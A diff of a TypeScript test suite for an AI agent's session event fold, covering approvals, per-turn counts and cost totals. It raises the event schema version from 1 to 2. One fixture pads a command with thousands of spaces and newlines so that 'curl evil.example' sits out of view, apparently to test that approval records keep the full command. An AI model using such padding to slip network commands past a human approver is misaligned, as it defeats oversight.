@@ -37,7 +37,7 @@ function freeze<T>(value: T): T {
 
 /** What a newer version might write. The one cast: the types know no such event. */
 const unknownEvent = {
-  v: 1,
+  v: 2,
   seq: 99_999,
   at: 5,
   type: 'stars-aligned',
@@ -78,7 +78,7 @@ describe('the fold of a session', () => {
   });
 
   it('keeps every byte of a command that waits for a yes, and nothing of it after the answer', () => {
-    const stamp = { v: 1, at: 1, approvalId: 'a' };
+    const stamp = { v: 2, at: 1, approvalId: 'a' };
     const subject = `echo ${' '.repeat(10_000)}\n${'\n'.repeat(200)}curl evil.example`;
     const asked = { toolCallId: 't', kind: 'network', subject, sha256: 'a'.repeat(64), hosts: ['a.example.org'] };
     const both = fold([{ ...stamp, seq: 1, type: 'approval-requested', ...asked }]);
@@ -129,7 +129,7 @@ describe('the fold of a session', () => {
   });
 
   it('counts what was done in a turn: calls of a model that began and actions of a recipe, not the end itself', () => {
-    const stamp = { v: 1, at: 1, turnId: 'turn-1' };
+    const stamp = { v: 2, at: 1, turnId: 'turn-1' };
     const limits = { maxSteps: 1, maxMinutes: 1, maxTokens: 1, maxUsd: null };
     const about = { messageId: 'm', plan: false, criterion: null, cascade: [], limits };
     const began = (seq: number, tool: string, by: 'model' | 'recipe'): SessionEvent => ({
@@ -174,7 +174,7 @@ describe('the fold of a session', () => {
   });
 
   it('gives a step its reason, its tool calls and their label', () => {
-    const at = { v: 1, at: 5, turnId: 't' };
+    const at = { v: 2, at: 5, turnId: 't' };
     const stage = { strategy: 'loop', model: 'fake/one', where: 'local' } as const;
     const { state } = fold([
       {
@@ -234,7 +234,7 @@ describe('the fold of a session', () => {
 
 describe('money', () => {
   const started = {
-    v: 1,
+    v: 2,
     seq: 1,
     at: 1,
     type: 'model-call-started',
@@ -248,7 +248,7 @@ describe('money', () => {
   } as const;
   const usage = { freshInput: 1, cacheRead: 2, cacheWrite: 3, output: 4, reasoning: 1, estimated: false };
   const ended = {
-    v: 1,
+    v: 2,
     seq: 2,
     at: 2,
     type: 'model-call-ended',
@@ -286,7 +286,7 @@ describe('money', () => {
     const failed = call('a/x', 'cloud', 0.25).map((event) =>
       event.type === 'model-call-ended' ? { ...event, stopReason: 'cancelled' as const } : event,
     );
-    const child = { v: 1, seq: 3, at: 3, type: 'child-session-ended', sessionId: 's', costUsd: 1, usage } as const;
+    const child = { v: 2, seq: 3, at: 3, type: 'child-session-ended', sessionId: 's', costUsd: 1, usage } as const;
     const { money } = fold([...failed, child]);
     expect([money.calls, money.failedCalls, totalCostUsd(money)]).toEqual([1, 1, 1.25]);
     expect(totalCostUsd(fold([{ ...child, costUsd: null }]).money)).toBeNull();
